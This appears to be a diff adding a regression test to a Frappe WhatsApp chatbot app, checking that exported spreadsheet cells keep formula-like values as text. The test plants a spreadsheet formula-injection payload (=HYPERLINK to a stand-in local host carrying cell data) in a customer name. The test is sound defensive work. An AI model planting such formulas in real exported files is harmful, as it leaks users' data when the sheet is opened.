@@ -6,10 +6,12 @@ names hold `$` signs is drawn (matplotlib would parse them as mathtext, and fail
 
 from __future__ import annotations
 
+import io
 import threading
 from http.server import BaseHTTPRequestHandler
 
 import frappe
+from openpyxl import load_workbook
 
 from whatsapp_chatbot.media import pdf
 from whatsapp_chatbot.tests import factories as f
@@ -130,6 +132,47 @@ class TestReportPdfFetchesNothing(f.InterpreterTestCase):
 			self.assertIn(squeezed(words), squeezed(text))
 		for markup in ("<span", "indicator-pill", "label.png", "cell-img", "<b>"):
 			self.assertNotIn(markup, text)
+
+
+class TestSpreadsheetCellsAreText(f.InterpreterTestCase):
+	settings = {"long_row_threshold": 100_000}
+
+	def test_a_value_starting_with_equals_is_text_not_a_formula(self):
+		"""openpyxl stores a string starting with "=" as a formula, which the spreadsheet runs when
+		the file is opened (=WEBSERVICE or =HYPERLINK send the sheet's data away)."""
+		tag = frappe.generate_hash(length=8)
+		name, formula = f"Chatbot Formula {tag}", f'=HYPERLINK("http://127.0.0.1:9/?"&A2,"{tag}")'
+		frappe.get_doc(
+			{
+				"doctype": "Customer",
+				"customer_name": formula,
+				"customer_type": "Company",
+				"customer_group": "All Customer Groups",
+				"territory": "All Territories",
+			}
+		).insert(set_name=name)
+		frappe.db.commit()
+
+		def remove():
+			frappe.delete_doc("Customer", name, force=True, ignore_permissions=True)
+			frappe.db.commit()
+
+		self.addCleanup(remove)
+		arguments = {
+			"doctype": "Customer",
+			"filters": [f"name = {name}"],
+			"fields": ["name", "customer_name"],
+			"limit": None,
+		}
+		self.openai.script(call("export_list", arguments), say("Listo."))
+		self.say("exporta ese cliente")
+		f.run_jobs()
+		command = frappe.get_last_doc("Chatbot Command", {"command": "export_list"})
+		[document] = [s for s in self.graph.sent_messages() if s["type"] == "document"]
+		self.assertEqual(command.status, "Succeeded", command.error)
+		sheet = load_workbook(io.BytesIO(self.graph.media[document["document"]["id"]][0])).active
+		[row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == name]
+		self.assertEqual((row[1].value, row[1].data_type), (formula, "s"))
 
 
 class TestChartLabelsAreText(f.InterpreterTestCase):
